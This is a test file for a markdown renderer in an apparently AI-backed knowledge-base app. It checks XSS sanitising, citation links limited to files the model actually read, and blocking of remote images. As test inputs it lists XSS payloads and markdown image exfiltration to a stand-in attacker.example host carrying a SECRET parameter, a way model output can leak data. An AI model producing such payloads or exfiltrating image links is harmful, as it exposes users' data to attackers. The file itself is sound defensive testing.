import { describe, expect, it } from 'vitest'
import { answerRenderer, renderMarkdown } from './render-markdown.ts'

describe('renderMarkdown', () => {
  it('renders markdown', () => {
    expect(renderMarkdown('# Title\n\n**bold** `code`')).toContain('<h1>Title</h1>')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '[x](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil"></iframe>',
    '<div onclick="alert(1)">x</div>',
    '<svg onload="alert(1)"></svg>',
    'text <img src=x onerror=alert(1)> inline',
    '<details open ontoggle="alert(1)">x</details>',
  ])('neutralises %s: no element, no handler, no javascript: URL', (input) => {
    const html = renderMarkdown(input)
    expect(html).not.toMatch(/<(script|img|iframe|svg|div|details)\b/i)
    expect(html).not.toMatch(/<[^>]*\son\w+=/i)
    expect(html).not.toMatch(/<a[^>]*href="javascript:/i)
  })

  it('shows raw HTML as the text it is', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('turns kb:// URIs into preview links, leaving trailing punctuation outside', () => {
    const html = renderMarkdown('See kb://users/demo/guide.md. And (kb://users/demo/a b.md @12)')
    expect(html).toContain('<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fguide.md" class="kb-link" target="_blank">kb://users/demo/guide.md</a>.')
    expect(html).toContain('kb://users/demo/a</a> b.md')
  })

  it('keeps ordinary links safe', () => {
    expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer"')
  })

  describe('answerRenderer (citations)', () => {
    const readInTurn = new Set(['kb://users/demo/a.md'])
    const render = answerRenderer((uri) => (readInTurn.has(uri) ? uri : undefined))

    it('links a citation of a file the turn read to the passage, in place (no new tab)', () => {
      const html = render('As stated (kb://users/demo/a.md @120).')
      expect(html).toContain(
        '<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fa.md&amp;offset=120" data-uri="kb://users/demo/a.md" data-offset="120" class="kb-link kb-cite">kb://users/demo/a.md @120</a>)',
      )
      expect(html).not.toContain('target=')
      expect(render('See kb://users/demo/a.md.')).toContain('<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fa.md" data-uri="kb://users/demo/a.md" class="kb-link kb-cite">kb://users/demo/a.md</a>.')
    })

    it('leaves a citation of a file the turn never read as plain text', () => {
      const html = render('Made up: (kb://users/demo/b.md @7)')
      expect(html).toContain('<span class="kb-ref">kb://users/demo/b.md @7</span>')
      expect(html).not.toContain('<a')
    })

    it('keeps a model from forging a citation link with raw HTML', () => {
      const html = render('<a class="kb-link kb-cite" href="/evil" data-uri="kb://users/demo/a.md">x</a>')
      expect(html).not.toMatch(/<a\b/)
    })
  })
})

describe('images never leave the server', () => {
  it.each([
    '![x](https://attacker.example/c?d=SECRET)',
    '![x](http://attacker.example/c?d=SECRET)',
    '![x](//attacker.example/c?d=SECRET)',
    '![x](/\\attacker.example/c?d=SECRET)',
    '![x](https:attacker.example/c?d=SECRET)',
    '![x][ref]\n\n[ref]: https://attacker.example/c?d=SECRET',
    '<img src="https://attacker.example/c?d=SECRET">',
  ])('%s renders no <img> with a remote source', (input) => {
    const html = renderMarkdown(input)
    expect(html).not.toMatch(/<img\b/i)
    expect(html).not.toMatch(/<[^>]*\ssrc="[^"]*attacker/i)
  })

  it('a remote image becomes a link that says it is an external image, and loads nothing', () => {
    const html = renderMarkdown('![chart](https://attacker.example/c?d=SECRET "Q3")')
    expect(html).toBe(
      '<p><a href="https://attacker.example/c?d=SECRET" title="Q3" class="external-image" rel="noopener noreferrer" target="_blank">External image, not loaded: chart (attacker.example)</a></p>\n',
    )
  })

  it('a remote image with a javascript: URL keeps no href', () => {
    const html = renderMarkdown('![x](javascript:alert(1))')
    expect(html).not.toMatch(/href=/)
    expect(html).toContain('External image, not loaded: x')
  })

  it('loads workspace files through the raw-content URL, same-origin paths and data: images', () => {
    expect(renderMarkdown('![a](kb://users/demo/pic.png)')).toContain('<img src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fpic.png" alt="a" />')
    expect(renderMarkdown('![a](/static/logo.png)')).toContain('<img src="/static/logo.png" alt="a" />')
    expect(renderMarkdown('![a](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" />')
    expect(renderMarkdown('![a](data:text/html;base64,PHNjcmlwdD4=)')).not.toContain('<img')
  })

  it('resolves a relative image against the previewed file, never above the scheme', () => {
    expect(renderMarkdown('![d](img/diagram.png)', { baseUri: 'kb://users/demo/docs/a.md' })).toContain(
      'src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fdocs%2Fimg%2Fdiagram.png"',
    )
    expect(renderMarkdown('![d](img/diagram.png)')).toContain('External image, not loaded: d')
  })
})
